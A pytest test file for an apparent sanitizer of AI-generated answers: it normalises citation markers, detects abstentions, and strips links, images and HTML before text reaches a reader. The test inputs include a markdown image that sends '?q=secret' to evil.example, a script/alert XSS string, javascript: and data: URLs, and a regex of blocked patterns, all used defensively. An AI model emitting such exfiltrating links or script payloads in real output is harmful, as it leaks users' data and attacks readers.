"""What reaches a reader has known citation markers, and nothing that could be fetched."""

import re
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from f.core.answer_text import REMOVED_LINK, AnswerStream, clean_answer, is_abstention, strip_links
from tests.support.patience import PROMPTLY_SECONDS

MARKERS = ["[1]", "[2]", "[9]", " [9]", "[0]", "[1, 2]", "[1-2]", "【1】", "[1", "]", "[", "**"]
LINKS = [
    "(",
    ")",
    "<",
    ">",
    "!",
    "![",
    "](",
    "http:",
    "//evil.example/x",
    "www.evil.example",
    "<img src=",
    "a.example/y?z",
]
PIECES = st.sampled_from(["word", " ", "\n", ".", "https://good.example/a", *MARKERS, *LINKS])


@pytest.mark.parametrize(
    ("answer", "expected"),
    [
        ("Rent is 850 [1].", "Rent is 850 [1]."),
        ("Rent is 850 [1, 2].", "Rent is 850 [1][2]."),
        ("Rent is 850 [1-3].", "Rent is 850 [1][2][3]."),
        ("Rent is 850 [3\u20131].", "Rent is 850 [3][1]."),
        ("Rent is 850【2†source】.", "Rent is 850[2]."),
        ("Rent is 850 [Passage 2].", "Rent is 850 [2]."),
        ("Rent is 850 [9].", "Rent is 850."),
        ("Rent is 850 [9][1].", "Rent is 850 [1]."),
        ("Rent [7] is 850.", "Rent is 850."),
        ("In [2019] it was 800 [1-200].", "In [2019] it was 800 [1]."),
        ("[0] Nothing there.", "Nothing there."),
        ("Nothing there [0].", "Nothing there."),
        ("A list [a] and f(x)[i] stay.", "A list [a] and f(x)[i] stay."),
        ("2 < 3 and 5 > 4", "2 < 3 and 5 > 4"),
    ],
)
def test_markers_get_one_form(answer: str, expected: str) -> None:
    assert clean_answer(answer, {1, 2, 3}) == expected


@pytest.mark.parametrize(
    ("answer", "expected"),
    [
        ("![a picture](https://evil.example/?q=secret)", "a picture"),
        ("![](//evil.example/x 'title')", ""),
        ("See [here](https://evil.example/a_(b)?c=d).", "See here."),
        ("See [here](<https://evil.example/a b>).", "See here."),
        ("[1](https://evil.example/)", "[1]"),
        ("<img src='https://evil.example/x'>", ""),
        ("<<b>script>alert(1)</script>", "script>alert(1)"),
        ("<https://evil.example/x>", ""),
        ("Go to https://evil.example/x?y=z, now.", f"Go to {REMOVED_LINK}, now."),
        ("Go to WWW.evil.example or evil.example/?d=1", f"Go to {REMOVED_LINK} or {REMOVED_LINK}"),
        ("javascript:alert data:text/html,x mailto:a@b.example", " ".join([REMOVED_LINK] * 3)),
        ("[x]: https://evil.example/x", f"[x]: {REMOVED_LINK}"),
        ("[x](javascript\\:y z", "[x] (javascript\\:y z"),
        ("and/or, e.g. 3/4 of report.pdf, at 10:30", "and/or, e.g. 3/4 of report.pdf, at 10:30"),
    ],
)
def test_links_are_taken_out(answer: str, expected: str) -> None:
    assert strip_links(answer) == expected


def test_an_address_of_a_passage_stays_as_text() -> None:
    allowed = "The form is at https://hr.example/leave?id=7."
    assert strip_links("See [the form](https://hr.example/leave?id=7).", allowed) == (
        "See the form (https://hr.example/leave?id=7)."
    )
    assert strip_links("https://hr.example/leave?id=7, ok", allowed) == "https://hr.example/leave?id=7, ok"
    assert strip_links("https://hr.example/leave?id=7&secret=1", allowed) == REMOVED_LINK
    assert strip_links("https://hr.example/leave", "x https://hr.example/leave2") == REMOVED_LINK


@pytest.mark.parametrize("answer", ["[0] No.", "  [0]No", "**[0]** No", "【0】", "[ 0 ] No", "- [0]"])
def test_abstentions_are_known_by_their_marker(answer: str) -> None:
    assert is_abstention(answer)
    stream = AnswerStream({1})
    assert "".join(map(stream.feed, answer)) + stream.close() in {"No.", "No", ""}
    assert stream.abstained


@pytest.mark.parametrize("answer", ["", "No [0].", "[1] Yes", "[00", "0"])
def test_other_answers_are_no_abstentions(answer: str) -> None:
    assert not is_abstention(answer)
    stream = AnswerStream({1})
    stream.feed(answer)
    stream.close()
    assert not stream.abstained


def test_words_are_released_as_soon_as_the_next_begins() -> None:
    stream = AnswerStream({1})
    assert [stream.feed(piece) for piece in ["The", " rent", " is", " 850", " [", "1", "]", ". It", " is"]] == [
        "", "The", " rent", " is", " 850", "", "", " [1].", " It",
    ]  # fmt: skip
    assert stream.close() == " is"


@settings(max_examples=400, deadline=None)
@given(st.lists(PIECES, max_size=30), st.lists(st.integers(1, 12), min_size=1, max_size=20))
def test_a_stream_gives_the_same_text_however_it_is_cut(pieces: list[str], sizes: list[int]) -> None:
    answer, at, released = "".join(pieces), 0, ""
    allowed = "at https://good.example/a you"
    stream = AnswerStream({1, 2}, allowed)
    index = 0
    while at < len(answer):
        size = sizes[index % len(sizes)]
        released += stream.feed(answer[at : at + size])
        at, index = at + size, index + 1
    released += stream.close()
    assert released == clean_answer(answer, {1, 2}, allowed)
    assert stream.abstained == is_abstention(answer)
    harmless = released.replace("https://good.example/a", " good ")
    assert not re.search(r"evil\.example/|www\.evil|\]\(|!\[|<img|a\.example/y", harmless)


def test_long_and_hostile_answers_take_linear_time() -> None:
    began = time.perf_counter()
    for answer in (
        "[" * 50_000,
        "![a](" * 10_000,
        " " * 200_000,
        "a." * 50_000,
        "<a " * 20_000,
        "[1" * 30_000,
        "http:" * 20_000,
    ):
        clean_answer(answer, {1})
    assert time.perf_counter() - began < PROMPTLY_SECONDS
